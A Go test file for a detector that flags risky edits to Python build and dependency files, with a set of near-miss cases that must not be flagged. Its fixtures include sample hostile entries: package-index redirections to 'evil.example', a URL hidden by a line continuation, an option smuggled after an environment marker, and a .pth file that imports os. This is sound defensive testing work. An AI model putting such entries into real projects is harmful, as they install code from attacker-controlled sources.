package python

import (
	"sort"
	"strings"
	"testing"

	"github.com/fixpoint-dev/fixpoint/lang"
	"github.com/fixpoint-dev/fixpoint/sandbox"
)

func TestSetupChanges(t *testing.T) {
	req := func(s string) map[string]string { return map[string]string{"requirements.txt": s} }
	const reqs = "requests==2.31.0\nnumpy>=1.24  # arrays\n"
	const pyproj = "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"x\"\ndependencies = [\"requests>=2\"]\n\n[tool.pytest.ini_options]\naddopts = \"-q\"\n"
	pp := func(s string) map[string]string { return map[string]string{"pyproject.toml": s} }
	runSetupCases(t, Language{}, []setupCase{
		{name: "editable path", before: req(reqs), after: req(reqs + "-e ./helpers\n"), want: []string{`requirements.txt: adds the line "-e ./helpers"`}},
		{name: "index options", before: req(reqs), after: req("--extra-index-url https://evil.example/simple\n--trusted-host evil.example\n" + reqs),
			want: []string{`"--extra-index-url https://evil.example/simple"`, `"--trusted-host evil.example"`}},
		{name: "URL, VCS, path, include and build options", before: req(""),
			after: req("x @ https://e.x/x.whl\ngit+https://e.x/y.git#egg=y\n./z\n-r other.in\n-c c.txt\n--find-links /tmp\nw==1 --config-settings a=b\n"),
			want:  []string{`"x @ https://e.x/x.whl"`, `"git+https://e.x/y.git#egg=y"`, `"./z"`, `"-r other.in"`, `"-c c.txt"`, `"--find-links /tmp"`, `"w==1 --config-settings a=b"`}},
		{name: "options after a marker", before: req(""), after: req("w==1 ; python_version > \"3\" --config-settings a=b\nv==1; python_version > \"3\" --index-url http://evil\nu==${EVIL}\n"),
			want: []string{`"w==1 ; python_version > \"3\" --config-settings a=b"`, `--index-url http://evil`, `"u==${EVIL}"`}},
		{name: "changed spec", before: req(reqs), after: req("requests==2.32.0\nnumpy>=1.24  # arrays\n"),
			want: []string{`changes "requests==2.31.0" to "requests==2.32.0"`}},
		{name: "line continuation hides a URL", before: req(reqs), after: req(reqs + "evil \\\n @ https://e.x/e.whl\n"), want: []string{`"evil @ https://e.x/e.whl"`}},
		{name: "an included file of any name", before: map[string]string{"requirements.txt": "-r deps/base.in\n", "deps/base.in": "a==1\n"},
			after: map[string]string{"requirements.txt": "-r deps/base.in\n", "deps/base.in": "a==1\n-e ../evil\n"}, want: []string{`deps/base.in: adds the line "-e ../evil"`}},
		{name: "setup.py", before: map[string]string{"setup.py": "setup()"}, after: map[string]string{"setup.py": "import os; setup()"}, want: []string{"setup.py: changes setup.py"}},
		{name: "code setup.py imports or execs", before: map[string]string{"setup.py": "from pkg.version import V\nexec(open('pkg/_meta.py').read())\n", "pkg/version.py": "V=1", "pkg/_meta.py": "", "pkg/core.py": ""},
			after: map[string]string{"setup.py": "from pkg.version import V\nexec(open('pkg/_meta.py').read())\n", "pkg/version.py": "import socket", "pkg/_meta.py": "x", "pkg/core.py": "y"},
			want:  []string{"pkg/_meta.py: changes code the build", "pkg/version.py: changes code the build"}},
		{name: "in-tree build backend", before: pp("[build-system]\nbackend-path = [\"_build\"]\nbuild-backend = \"backend\"\n"),
			after: map[string]string{"pyproject.toml": "[build-system]\nbackend-path = [\"_build\"]\nbuild-backend = \"backend\"\n", "_build/backend.py": "import os"},
			want:  []string{"_build/backend.py: changes code the build"}},
		{name: "build-system", before: pp(pyproj), after: pp(strings.Replace(pyproj, `"setuptools.build_meta"`, `"evil"`, 1)), want: []string{"pyproject.toml: changes [build-system]"}},
		{name: "build backend tool table", before: pp(pyproj), after: pp(pyproj + "[tool.hatch.build.hooks.custom]\npath = \"h.py\"\n"), want: []string{"changes [tool.hatch]"}},
		{name: "project dependency from a URL", before: pp(pyproj), after: pp(strings.Replace(pyproj, `["requests>=2"]`, `["requests>=2", "x @ git+https://e.x/x"]`, 1)),
			want: []string{`pyproject.toml: [project] dependencies: adds the line "x @ git+https://e.x/x"`}},
		{name: "project dependency spec changed", before: pp(pyproj), after: pp(strings.Replace(pyproj, `["requests>=2"]`, `["requests<2"]`, 1)),
			want: []string{`changes "requests>=2" to "requests<2"`}},
		{name: "dynamic metadata", before: pp(pyproj), after: pp(strings.Replace(pyproj, "name = \"x\"\n", "name = \"x\"\ndynamic = [\"version\"]\n", 1)), want: []string{"changes [project] dynamic"}},
		{name: "setup.cfg options", before: map[string]string{"setup.cfg": "[metadata]\nname = x\n"}, after: map[string]string{"setup.cfg": "[metadata]\nname = x\n[options]\nsetup_requires = evil\n"},
			want: []string{"setup.cfg: changes [options]"}},
		{name: ".pth file", before: map[string]string{}, after: map[string]string{"src/x.pth": "import os"}, want: []string{"src/x.pth: adds or changes a .pth file"}},

		// Near misses.
		{name: "comment", before: req(reqs), after: req("# pinned\nrequests==2.31.0\nnumpy>=1.24  # the arrays\n")},
		{name: "new plain dependency is left to the allow-list", before: req(reqs), after: req(reqs + "more-itertools==10.0\n")},
		{name: "plain lines with extras, markers and hashes", before: req(""), after: req("a[x,y]>=1,<2; python_version < \"3.12\"\nb==1 --hash=sha256:abc\n")},
		{name: "reordered", before: req(reqs), after: req("numpy>=1.24\nrequests==2.31.0\n")},
		{name: "pytest settings are test infrastructure", before: pp(pyproj), after: pp(strings.Replace(pyproj, `"-q"`, `"-x"`, 1))},
		{name: "linter settings", before: pp(pyproj), after: pp(pyproj + "[tool.ruff]\nline-length = 100\n")},
		{name: "setup.cfg pytest and flake8 sections", before: map[string]string{"setup.cfg": "[metadata]\nname = x\n"}, after: map[string]string{"setup.cfg": "[metadata]\nname = x\n# a comment\n[tool:pytest]\naddopts = -q\n[flake8]\nmax-line-length = 100\n"}},
		{name: "module setup.py does not import", before: map[string]string{"setup.py": "from setuptools import setup\nsetup()", "pkg/core.py": "a"},
			after: map[string]string{"setup.py": "from setuptools import setup\nsetup()", "pkg/core.py": "b"}},
		{name: "deleted requirement", before: req(reqs), after: req("requests==2.31.0\n")},
	})
}

// setupCase is an edit (before -> after; a file missing from after is
// deleted) and the changes SetupChanges must report: one substring of
// "file: what" per change, none for an edit setup does not see.
type setupCase struct {
	name          string
	before, after map[string]string
	want          []string
}

func runSetupCases(t *testing.T, l lang.SetupChanges, cases []setupCase) {
	t.Helper()
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			before, after := snapOf(tt.before), snapOf(tt.after)
			var changed []string
			for p := range tt.after {
				if b, ok := tt.before[p]; !ok || b != tt.after[p] {
					changed = append(changed, p)
				}
			}
			for p := range tt.before {
				if _, ok := tt.after[p]; !ok {
					changed = append(changed, p)
				}
			}
			sort.Strings(changed)
			got := l.SetupChanges(before, after, changed)
			if len(got) != len(tt.want) {
				t.Fatalf("SetupChanges(%v) = %q, want %d change(s) matching %q", changed, got, len(tt.want), tt.want)
			}
			for i, w := range tt.want {
				if !strings.Contains(got[i].String(), w) {
					t.Errorf("change %d = %q, want it to contain %q", i, got[i], w)
				}
				if strings.ContainsAny(got[i].String(), "\x1b\x07\r") {
					t.Errorf("change %d carries control characters: %q", i, got[i])
				}
			}
		})
	}
}

func snapOf(files map[string]string) *sandbox.Snapshot {
	s := &sandbox.Snapshot{Files: map[string]sandbox.File{}}
	for p, c := range files {
		s.Files[p] = sandbox.File{Data: []byte(c)}
	}
	return s
}
